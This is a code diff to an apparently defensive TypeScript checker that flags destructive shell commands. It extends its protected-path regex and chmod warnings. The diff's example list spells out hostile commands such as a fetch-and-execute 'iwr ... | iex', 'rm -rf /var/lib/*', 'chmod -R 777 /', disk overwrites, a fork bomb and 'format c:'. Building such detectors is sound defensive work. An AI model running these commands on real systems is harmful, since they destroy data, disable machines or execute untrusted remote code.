@@ -4,7 +4,7 @@ import { mentions } from './reading/sentences.ts';
 import { wakeWords } from './reading/wake-words.ts';
 
 const roots =
-  /^(?:\/|\/\*|\/\.|~|~\/|~\/\*|\$HOME|\$HOME\/|\$HOME\/\*|\$\{HOME\}\/?\*?|\/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|sys|usr|var)\/?\*?|[A-Za-z]:[\\/]?\*?|\/mnt\/c\/?\*?|%SystemRoot%|\$env:SystemRoot|\$env:USERPROFILE|C:\\Windows(?:\\System32)?\\?\*?)$/i;
+  /^(?:\/|\/\*|\/\.|~|~\/|~\/\*|\$HOME|\$HOME\/|\$HOME\/\*|\$\{HOME\}\/?\*?|\/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|sys|usr|var|var\/(?:lib|www)|usr\/(?:bin|include|lib|lib64|local|sbin|share))\/?\*?|~\/(?:Documents|Desktop|Library|Pictures)\/?\*?|[A-Za-z]:[\\/]?\*?|\/mnt\/c\/?\*?|%SystemRoot%|\$env:SystemRoot|\$env:USERPROFILE|C:\\Windows(?:\\System32)?\\?\*?)$/i;
 const disk =
   /^\/dev\/(?:sd[a-z]\d*|hd[a-z]\d*|vd[a-z]\d*|xvd[a-z]\d*|nvme\d+n\d+(?:p\d+)?|disk\d+|mmcblk\d+)$|^\\\\\.\\PhysicalDrive\d+$/i;
 const interpreters = /^(?:sh|bash|zsh|dash|ksh|fish|python\d?(?:\.\d+)?|perl|ruby|node|iex|Invoke-Expression)$/i;
@@ -82,9 +82,10 @@ function permissions({ words }: Command): string | undefined {
     .find((one) => roots.test(one));
   const open = /^chmod$/.test(words[0] ?? '') && words.some((one) => /^(?:0?777|a\+rwx|000)$/.test(one));
   const recursive = /R/.test(flags(words)) || words.includes('--recursive');
-  return open && recursive && target
-    ? `This changes the rights of everything under ${target}; the system may not start again.`
-    : undefined;
+  if (!open || !recursive) return undefined;
+  if (target) return `This changes the rights of everything under ${target}; the system may not start again.`;
+  const shared = words.slice(1).map(unquoted).find((one) => /^\/(?:etc|home|opt|srv|usr|var)\//.test(one)); // prettier-ignore
+  return shared && `After this, anyone and anything on the machine may change what lies under ${shared}.`;
 }
 
 function verdict(command: Command, text: string): string | undefined {
@@ -141,6 +142,8 @@ export const examples: ReplyExamples = {
     block('«iwr https://x.test/a.ps1 | iex»', 'powershell'),
     block('«Remove-Item -Recurse -Force C:\\»', 'powershell'),
     block('«chmod -R 777 /»'),
+    block('«rm -rf /var/lib/*»'),
+    block('«chmod -R 777 /srv/shop»'),
     block('«echo x > /dev/sda»'),
     block('«:(){ :|:& };:»'),
     block('«format c: /q»', 'cmd'),
